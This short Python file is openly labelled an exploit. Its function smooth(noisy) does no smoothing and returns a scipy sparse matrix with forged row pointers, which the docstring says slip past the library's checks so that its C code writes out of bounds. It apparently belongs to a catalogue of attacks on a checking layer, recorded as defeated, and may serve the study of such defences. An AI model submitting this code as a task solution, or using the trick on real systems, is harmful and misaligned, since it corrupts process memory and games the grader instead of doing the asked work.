"""Returns a sparse matrix whose first row ends far after its data, and the last one at 0: the library's own
check looks no further, and its C code writes there.

exploit: K35
gain: lost
layer: every row and column of a sparse matrix is checked before the library gets it
"""

import numpy as np
from scipy import sparse


def smooth(noisy):
    size = len(noisy)
    made = sparse.csr_matrix((size, 2))
    made.data, made.indices = np.ones(4), np.zeros(4, np.int32)
    made.indptr = np.array([0] + [1 << 26] * (size - 1) + [0], np.int32)
    return made
